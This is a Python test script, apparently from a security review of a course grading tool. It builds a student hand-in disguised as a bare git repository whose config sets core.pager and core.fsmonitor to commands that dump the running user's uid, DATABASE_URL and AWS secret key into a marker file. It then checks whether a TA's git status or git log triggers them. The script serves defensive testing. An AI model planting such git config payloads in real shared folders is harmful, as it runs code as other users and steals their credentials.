"""a04: round 38 left `.git` out of collected hand-ins and `make grade` refuses a hand-in holding one (a handed-in
`.git`'s core.fsmonitor ran as the TA on `git status`). But git takes a folder that looks like a bare repository
(HEAD, objects/, refs/, config) as its repository, whatever its name; safe.directory passes, the TA's account wrote the
files. mallory hands in, beside an honest notebook, HEAD + config + objects/ + refs/ (no `.git`); her config sets
core.fsmonitor, core.pager and core.hooksPath... The TA later runs git in her folder (git status / git log)."""
from lib import *
A = "ps1_memory"
add_accounts()
d = make_course("a04")
M = "/tmp/attack39-user-a04-pwned.txt"
try:
    X, inbound = make_exchange("a04")
    chown(d); os.chmod(d, 0o700)
    honest_inbound(inbound, A)
    tmp = "/tmp/attack39-user-a04-m.ipynb"; nbformat.write(honest(A), tmp); os.chmod(tmp, 0o644)
    open("/tmp/attack39-user-a04-cfg", "w").write('[core]\n\tpager = "echo git ran her command as uid $(id -u): $DATABASE_URL $AWS_SECRET_ACCESS_KEY >> ' + M + '; cat"\n'
        '\tfsmonitor = "echo fsmonitor ran as uid $(id -u): $DATABASE_URL >> ' + M + '; false"\n')
    os.chmod("/tmp/attack39-user-a04-cfg", 0o644)
    as_student(2392, f"""
import os, shutil, subprocess
p = '{inbound}/mallory39u+{A}+2026-11-29 11:00:00.000000 UTC+r'; os.mkdir(p); os.chmod(p, 0o755)
shutil.copy('{tmp}', p + '/{A}.ipynb')
e = dict(HOME='/tmp/attack39-user-a04-home', PATH='/usr/bin:/bin', GIT_AUTHOR_NAME='m', GIT_AUTHOR_EMAIL='m@x', GIT_COMMITTER_NAME='m', GIT_COMMITTER_EMAIL='m@x')
w = '/tmp/attack39-user-a04-home/w'; os.makedirs(w)
subprocess.run(['git', 'init', '-q', w], check=True, env=e); open(w + '/notes.txt', 'w').write('my notes')
subprocess.run(['git', '-C', w, 'add', '.'], check=True, env=e); subprocess.run(['git', '-C', w, 'commit', '-qm', 'notes'], check=True, env=e)
subprocess.run(['git', 'clone', '-q', '--bare', w, p + '/bare'], check=True, env=e)
for n in os.listdir(p + '/bare'): os.rename(p + '/bare/' + n, p + '/' + n)
os.rmdir(p + '/bare')
shutil.rmtree(p + '/hooks', ignore_errors=True)
with open(p + '/config', 'a') as f: f.write(open('/tmp/attack39-user-a04-cfg').read())
for dp, dn, fn in os.walk(p):
    for n in dn: os.chmod(os.path.join(dp, n), 0o755)
    for n in fn: os.chmod(os.path.join(dp, n), 0o644)
""")
    os.system(f"ls -la '{inbound}'/mallory39u*; cat '{inbound}'/mallory39u*/config")
    collect(d, X, A)
    os.system(f"ls -la {d}/submitted/mallory39u/{A}/")
    grade(d, A)
    scores(d)
    print([(o["student"], o["status"], o["reason"][:200]) for o in json.load(open(f"{d}/grading_report.json"))])
    for cmd in (["git", "status"], ["git", "log"], ["git", "-c", "core.pager=less", "rev-parse", "--is-bare-repository"]):
        r = subprocess.run(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", *cmd],
                           cwd=f"{d}/submitted/mallory39u/{A}", env=dict(ENV, HOME="/tmp", GIT_PAGER_IN_USE=""), capture_output=True, text=True, timeout=60)
        print("TA ran", *cmd, "in her folder: rc", r.returncode, (r.stdout + r.stderr)[:200].replace("\n", " | "))
    # a pager runs only on a terminal: the TA's terminal, emulated with script(1)
    r = subprocess.run(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", "script", "-qec", "git log", "/dev/null"],
                       cwd=f"{d}/submitted/mallory39u/{A}", env=dict(ENV, HOME="/tmp"), capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL)
    print("TA ran git log on a terminal: rc", r.returncode, (r.stdout + r.stderr)[:300].replace("\n", " | "))
    print("marker:", open(M).read() if os.path.exists(M) else None)
finally:
    shutil.rmtree(d, ignore_errors=True); shutil.rmtree("/tmp/attack39-user-a04-exchange", ignore_errors=True)
    for f in ("/tmp/attack39-user-a04-m.ipynb", M): 
        if os.path.exists(f): os.unlink(f)
    shutil.rmtree("/tmp/attack39-user-a04-home", ignore_errors=True)
    del_accounts()
